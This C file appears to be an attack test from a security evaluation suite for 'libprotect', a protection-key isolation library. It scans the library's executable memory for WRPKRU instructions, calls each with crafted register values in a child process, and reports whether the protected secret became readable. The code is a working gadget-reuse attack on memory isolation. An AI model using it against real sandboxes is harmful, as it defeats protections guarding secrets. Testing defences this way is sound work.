/* Every WRPKRU in libprotect's code, called directly with every key open
 * in eax (and zeros elsewhere), or (argument "rights") with the library's
 * own rights in every register but ecx and edx, each in a child: does one
 * come back with the library's key open? */
#define _GNU_SOURCE
#include "attack.h"
#include "libprotect_symbols.h"


static struct vault_cell *cell;

static uint64_t value; /* what the registers hold */

static const volatile uint8_t *call_site(void *site)
{
    __asm__ volatile("mov %1, %%rax\n mov %1, %%rdi\n mov %1, %%rsi\n mov %1, %%r8\n mov %1, %%r9\n"
                     "mov %1, %%r10\n mov %1, %%r11\n xor %%ecx, %%ecx\n xor %%edx, %%edx\n call *%0"
                     ::"r"(site), "r"(value) : "rax", "rcx", "rdx", "rdi", "rsi", "r8", "r9", "r10", "r11", "memory");
    return cell->secret;
}

static int try_site(const uint8_t *site)
{
    uint8_t got[VAULT_SECRET_LEN];
    int how;
    return read_in_child(call_site, (void *)site, got, &how) && vault_matches(VAULT_DATA, got);
}

int main(int argc, char **argv)
{
    vault_open();
    cell = vault_address(VAULT_DATA);
    if (argc > 1 && strcmp(argv[1], "rights") == 0) {
        const uint32_t *rights = libprotect_symbol("protect_gate_page"); /* domain 0's first */
        if (!rights)
            blocked("protect_gate_page not found (a stripped libprotect only hides it)");
        value = rights[0];
    }
    struct mapping m[32];
    int n = libprotect_mappings(m, 32), sites = 0, opened = 0;
    for (int i = 0; i < n; i++) {
        if (m[i].perms[2] != 'x')
            continue;
        for (const uint8_t *p = (const uint8_t *)m[i].lo; p + 3 <= (const uint8_t *)m[i].hi; p++)
            if (p[0] == 0x0f && p[1] == 0x01 && p[2] == 0xef) {
                sites++;
                opened += try_site(p);
            }
    }
    fflush(stdout);
    char msg[128];
    snprintf(msg, sizeof msg, "%d of %d WRPKRUs in libprotect opened the library's key when called", opened, sites);
    if (opened)
        breached(msg);
    if (!sites)
        blocked("no WRPKRU in libprotect");
    blocked(msg);
}
